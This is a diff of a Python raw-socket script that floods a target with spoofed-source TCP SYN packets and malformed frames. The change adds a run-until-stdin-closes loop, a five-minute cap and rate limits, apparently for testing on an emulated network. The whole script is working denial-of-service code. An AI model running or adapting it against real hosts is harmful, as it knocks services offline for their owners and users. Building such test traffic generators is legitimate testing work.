@@ -1,10 +1,17 @@
-"""Forged SYNs and frames that mean harm, from a raw socket: flood.py DEVICE ADDRESS MAC COUNT."""
+"""Forged SYNs and frames that mean harm, from a raw socket, until standard input ends: flood.py DEVICE ADDRESS MAC."""
 
 import os
 import random
+import select
 import socket
 import struct
 import sys
+import time
+
+# Whoever began it may be gone without an end of the input.
+LIMIT_S = 300
+# At most 5,000 SYNs and 3,250 others a second: more than an emulated link carries would lose the frames of others too.
+BURST, PAUSE_S = 20, 0.004
 
 
 def total(data):
@@ -46,18 +53,19 @@ def hostile(source, target):
 
 
 def main():
-    device, address, mac, count = sys.argv[1:]
+    device, address, mac = sys.argv[1:]
     random.seed(1)
     line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     line.bind((device, 0))
     ethernet = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000007") + b"\x08\x00"
     target = socket.inet_aton(address)
-    for number in range(int(count)):
-        source = bytes([198, 18, random.randrange(256), random.randrange(256)])
-        line.send(ethernet + ipv4(source, target, 6, syn(source, target, 80)))
-        if number % 20 == 0:
-            for packet in hostile(source, target):
-                line.send(ethernet + packet)
+    end = time.monotonic() + LIMIT_S
+    while time.monotonic() < end and not select.select([sys.stdin], [], [], PAUSE_S)[0]:
+        for _ in range(BURST):
+            source = bytes([198, 18, random.randrange(256), random.randrange(256)])
+            line.send(ethernet + ipv4(source, target, 6, syn(source, target, 80)))
+        for packet in hostile(source, target):
+            line.send(ethernet + packet)
 
 
 main()
